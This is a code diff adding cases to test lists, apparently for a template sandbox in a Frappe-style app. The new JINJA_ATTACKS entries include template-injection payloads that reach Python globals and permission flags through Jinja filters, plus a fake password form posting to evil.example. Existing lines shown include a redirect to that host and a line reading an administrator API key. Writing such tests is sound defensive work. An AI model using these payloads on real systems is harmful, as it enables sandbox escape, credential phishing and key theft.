@@ -78,6 +78,15 @@ JINJA_ATTACKS = [
 	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
 	'<div style="background: url(javascript:alert(1))">x</div>',
 	"{% set _ = 1 %}",
+	# found by the attack on the demo (2026-12-07): attributes named by a filter's string, the
+	# save's internal state, a form that asks for passwords on the site's origin
+	"{{ [doc]|map(attribute='__class__.__init__.__globals__')|list }}",
+	"{{ [doc]|map(attribute='flags')|list }}",
+	"{{ [doc]|selectattr('_doc_before_save')|list }}",
+	"{{ [doc]|sort(attribute='flags.ignore_permissions')|list }}",
+	"{{ [doc]|groupby('__dict__')|list }}",
+	"{{ doc.flags }}",
+	"<form action='https://evil.example/login'><input name=pwd type=password><button>Sign in</button></form>",
 ]
 PYTHON_ATTACKS = [
 	'frappe.db.get_value("User", "Administrator", "api_key")',
@@ -102,6 +111,8 @@ SAFE_TEMPLATES = [
 	'{{ frappe.format_value(doc.grand_total, {"fieldtype": "Currency"}, doc) }}',
 	"{{ customer_amount_due(doc) }}",
 	"{% macro row(x) %}<tr><td>{{ x }}</td></tr>{% endmacro %}{{ row(doc.name) }}",
+	"{{ doc.items|sum(attribute='amount') }} {{ doc.items|selectattr('qty')|map(attribute='item_code')|join(', ') }}",
+	"{% for g in doc.items|groupby('item_group') %}{{ g.grouper }}{% endfor %}",
 ]
 SAFE_CONDITIONS = [
 	'doc.status == "Open" and doc.grand_total > 100',
